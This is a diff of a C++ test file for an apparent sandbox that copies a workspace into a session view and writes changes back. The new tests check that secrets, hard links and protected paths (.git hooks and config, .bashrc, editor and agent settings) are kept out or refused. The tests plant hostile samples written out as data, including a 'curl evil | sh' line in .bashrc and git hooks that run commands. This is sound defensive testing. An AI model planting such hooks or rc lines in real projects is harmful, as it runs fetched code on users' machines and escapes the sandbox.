@@ -17,6 +17,7 @@
 #include <vector>
 
 #include "base/fs.h"
+#include "policy/task_policy.h"
 
 namespace airlock::exec {
 namespace {
@@ -99,6 +100,13 @@ std::vector<std::string> tree(const std::string& dir, const std::string& rel = "
 
 using Strings = std::vector<std::string>;
 
+Strings skipped_paths(const ViewCopy& c) {
+  Strings out;
+  for (const auto& k : c.skipped) out.push_back(k.path);
+  std::sort(out.begin(), out.end());
+  return out;
+}
+
 // A workspace, a session view, and a directory outside both that nothing may reach.
 class WriteBack : public ::testing::Test {
  protected:
@@ -110,7 +118,10 @@ class WriteBack : public ::testing::Test {
   }
 
   ViewCopy make_view(const Strings& paths, const Strings& write_back_paths) {
-    auto r = create_view(ws_.path(), view_, paths, write_back_paths);
+    return make_view(ViewRules{paths, write_back_paths, {}, {}, true});
+  }
+  ViewCopy make_view(const ViewRules& rules) {
+    auto r = create_view(ws_.path(), view_, rules);
     if (!r) {
       ADD_FAILURE() << "create_view: " << r.error().message;
       return {};
@@ -119,7 +130,10 @@ class WriteBack : public ::testing::Test {
   }
 
   WriteBackReport back(const ViewManifest& manifest, const Strings& write_back_paths) {
-    auto r = write_back(view_, ws_.path(), manifest, write_back_paths);
+    return back(manifest, ViewRules{{}, write_back_paths, {}, {}, true});
+  }
+  WriteBackReport back(const ViewManifest& manifest, const ViewRules& rules) {
+    auto r = write_back(view_, ws_.path(), manifest, rules);
     if (!r) {
       ADD_FAILURE() << "write_back: " << r.error().message;
       return {};
@@ -414,7 +428,7 @@ TEST_F(WriteBack, ADirectoryReplacedByASymlinkKeepsItsWorkspaceContents) {
 TEST_F(WriteBack, AWorkspaceSymlinkWhereTheWriteBackDirectoryShouldBeIsAConflict) {
   ASSERT_EQ(::symlink(outside_.path().c_str(), (ws_ / "out").c_str()), 0);
   auto copy = make_view({"out"}, {"out"});
-  EXPECT_EQ(copy.skipped, (Strings{"out"}));
+  EXPECT_EQ(skipped_paths(copy), (Strings{"out"}));
   mkdir_p(view("out"));  // the command makes the directory it expected
   put(view("out/x"), "through the link?\n");
 
@@ -449,7 +463,7 @@ TEST_F(WriteBack, AWorkspaceSymlinkAtAFilePathIsAConflictAndItsTargetIsUntouched
   put(outside_ / "target", "original\n");
   ASSERT_EQ(::symlink((outside_ / "target").c_str(), (ws_ / "out/x").c_str()), 0);
   auto copy = make_view({"out"}, {"out"});
-  EXPECT_EQ(copy.skipped, (Strings{"out/x"}));
+  EXPECT_EQ(skipped_paths(copy), (Strings{"out/x"}));
   put(view("out/x"), "overwrite?\n");
 
   auto rep = back(copy.manifest, {"out"});
@@ -523,9 +537,7 @@ TEST_F(WriteBack, ViewSkipsSymlinksAndFifosInTheWorkspace) {
   ASSERT_EQ(::mkfifo((ws_ / "src/pipe").c_str(), 0644), 0);
 
   auto copy = make_view({"src"}, {});
-  Strings skipped = copy.skipped;
-  std::sort(skipped.begin(), skipped.end());
-  EXPECT_EQ(skipped, (Strings{"src/dirlink", "src/passwd", "src/pipe"}));
+  EXPECT_EQ(skipped_paths(copy), (Strings{"src/dirlink", "src/passwd", "src/pipe"}));
   EXPECT_EQ(tree(view_), (Strings{"src", "src/a.c"}));
 }
 
@@ -541,7 +553,7 @@ TEST_F(WriteBack, ViewDoesNotReadThroughASymlinkedParentOfAListedPath) {
   // readable: data/f, where the workspace's data is a link out of it.
   put(outside_ / "f", "outside content\n");
   ASSERT_EQ(::symlink(outside_.path().c_str(), (ws_ / "data").c_str()), 0);
-  (void)create_view(ws_.path(), view_, {"data/f"}, {});  // skipping or refusing are both fine
+  (void)create_view(ws_.path(), view_, ViewRules{{"data/f"}, {}, {}, {}, true});  // skipping or refusing are both fine
   EXPECT_FALSE(exists(view("data/f"))) << "create_view copied a file from outside the workspace";
 }
 
@@ -549,10 +561,114 @@ TEST_F(WriteBack, ViewCopiesAFileBothReadableAndWrittenBackOnce) {
   // The planner lists readable paths then write-back paths: {".", "notes.txt"} for a policy
   // that reads everything and writes back one file.
   put(ws_ / "notes.txt", "n\n");
-  auto r = create_view(ws_.path(), view_, {".", "notes.txt"}, {"notes.txt"});
+  auto r = create_view(ws_.path(), view_, ViewRules{{".", "notes.txt"}, {"notes.txt"}, {}, {}, true});
   ASSERT_TRUE(r.has_value()) << r.error().message;
   EXPECT_EQ(content_of(view("notes.txt")), "n\n");
   EXPECT_EQ(r->files, 1u);
+}
+
+// --- Denied names, hard links and protected paths ------------------------------------------------
+
+ViewRules all_of_it() {
+  ViewRules r{{"."}, {"."}, {}, policy::default_protected_paths(), true};
+  r.denied_names.assign(std::begin(policy::kDefaultDeniedNames), std::end(policy::kDefaultDeniedNames));
+  return r;
+}
+
+TEST_F(WriteBack, DeniedNamesNeverEnterTheViewAndNeverComeBack) {
+  put(ws_ / ".env", "TOKEN=host\n");
+  mkdir_p(ws_ / "deep/.ssh");
+  put(ws_ / "deep/.ssh/id_ed25519", "key\n");
+  put(ws_ / "deep/server.pem", "pem\n");
+  put(ws_ / "ok.txt", "ok\n");
+  auto copy = make_view(all_of_it());
+  EXPECT_EQ(tree(view_), (Strings{"deep", "deep/server.pem", "ok.txt"}));
+  EXPECT_EQ(skipped_paths(copy), (Strings{".env", "deep/.ssh"}));
+  // The command writes denied names of its own: none lands, each is refused by name.
+  put(view(".env"), "TOKEN=planted\n");
+  put(view("deep/.netrc"), "machine x\n");
+  auto rep = back(copy.manifest, all_of_it());
+  EXPECT_EQ(content_of(ws_ / ".env"), "TOKEN=host\n");
+  EXPECT_FALSE(exists(ws_ / "deep/.netrc"));
+  Strings refused;
+  for (const auto& r : rep.refused) {
+    refused.push_back(r.path);
+    EXPECT_EQ(r.reason, "denied name");
+  }
+  std::sort(refused.begin(), refused.end());
+  EXPECT_EQ(refused, (Strings{".env", "deep/.netrc"}));
+  EXPECT_TRUE(rep.deleted.empty()) << "a denied name absent from the view is not a deletion";
+  EXPECT_EQ(content_of(ws_ / "deep/.ssh/id_ed25519"), "key\n");
+}
+
+TEST_F(WriteBack, AHardLinkedFileIsSkippedNeverCopied) {
+  put(outside_ / "canary", "outside bytes\n");
+  ASSERT_EQ(::link((outside_ / "canary").c_str(), (ws_ / "linked").c_str()), 0);
+  auto copy = make_view(all_of_it());
+  EXPECT_FALSE(exists(view("linked"))) << "the view holds the bytes of a file outside the workspace";
+  ASSERT_EQ(copy.skipped.size(), 1u);
+  EXPECT_EQ(copy.skipped[0].path, "linked");
+  EXPECT_EQ(copy.skipped[0].reason, "hard link");
+  // Nothing in the view means nothing to delete: the workspace's link stays.
+  auto rep = back(copy.manifest, all_of_it());
+  EXPECT_TRUE(rep.deleted.empty()) << rep.to_json().dump();
+  EXPECT_EQ(content_of(ws_ / "linked"), "outside bytes\n");
+}
+
+TEST_F(WriteBack, ProtectedPathsAreReadOnlyInTheViewAndRefusedAtWriteBack) {
+  mkdir_p(ws_ / ".git/hooks");
+  mkdir_p(ws_ / ".git/info");
+  mkdir_p(ws_ / ".git/objects/ab");
+  put(ws_ / ".git/config", "[core]\n");
+  put(ws_ / ".git/hooks/pre-commit.sample", "#!/bin/sh\n");
+  put(ws_ / ".git/info/exclude", "# nothing\n");
+  put(ws_ / ".git/HEAD", "ref: refs/heads/main\n");
+  mkdir_p(ws_ / "sub/.vscode");
+  put(ws_ / "sub/.vscode/tasks.json", "{}\n");
+  put(ws_ / ".bashrc", "# rc\n");
+  put(ws_ / "src.txt", "v1\n");
+  auto copy = make_view(all_of_it());
+  Strings present = copy.protected_present;
+  std::sort(present.begin(), present.end());
+  EXPECT_EQ(present, (Strings{".bashrc", ".git/config", ".git/hooks", ".git/info", "sub/.vscode"}));
+  // The first wall: no write bit on a protected path or anything beneath it.
+  for (const char* p : {".bashrc", ".git/config", ".git/hooks", ".git/hooks/pre-commit.sample", "sub/.vscode",
+                        "sub/.vscode/tasks.json"})
+    EXPECT_EQ(lstat_of(view(p)).st_mode & 0222, 0u) << p;
+  EXPECT_NE(lstat_of(view(".git/HEAD")).st_mode & 0200, 0u) << "the rest of .git stays writable";
+
+  // A command that gets past the first wall (chmod) changes, plants and deletes.
+  for (const char* d : {".git/hooks", ".git/info", "sub/.vscode"}) ASSERT_EQ(::chmod(view(d).c_str(), 0700), 0);
+  ASSERT_EQ(::chmod(view(".git/config").c_str(), 0600), 0);
+  ASSERT_EQ(::chmod(view(".bashrc").c_str(), 0600), 0);
+  put(view(".git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
+  put(view(".git/hooks/pre-commit"), "#!/bin/sh\ntouch /tmp/pwned\n");
+  ASSERT_EQ(::unlink(view(".git/info/exclude").c_str()), 0);
+  put(view(".bashrc"), "curl evil | sh\n");
+  mkdir_p(view("sub/.claude"));
+  put(view("sub/.claude/settings.local.json"), "{\"hooks\": {}}\n");
+  put(view("sub/.git"), "gitdir: ../elsewhere\n");
+  // ... and does ordinary work beside it, which lands.
+  put(view(".git/objects/ab/cdef"), "object\n");
+  put(view("src.txt"), "v2\n");
+
+  auto rep = back(copy.manifest, all_of_it());
+  Strings refused;
+  for (const auto& r : rep.refused) {
+    refused.push_back(r.path);
+    EXPECT_TRUE(r.reason.starts_with("protected path")) << r.path << ": " << r.reason;
+  }
+  std::sort(refused.begin(), refused.end());
+  EXPECT_EQ(refused, (Strings{".bashrc", ".git/config", ".git/hooks/pre-commit", ".git/info/exclude",
+                              "sub/.claude/settings.local.json", "sub/.git"}));
+  EXPECT_EQ(content_of(ws_ / ".git/config"), "[core]\n");
+  EXPECT_EQ(content_of(ws_ / ".bashrc"), "# rc\n");
+  EXPECT_FALSE(exists(ws_ / ".git/hooks/pre-commit"));
+  EXPECT_EQ(content_of(ws_ / ".git/info/exclude"), "# nothing\n");
+  EXPECT_FALSE(exists(ws_ / "sub/.claude/settings.local.json"));
+  EXPECT_FALSE(exists(ws_ / "sub/.git"));
+  EXPECT_EQ(content_of(ws_ / ".git/objects/ab/cdef"), "object\n");
+  EXPECT_EQ(content_of(ws_ / "src.txt"), "v2\n");
 }
 
 }  // namespace
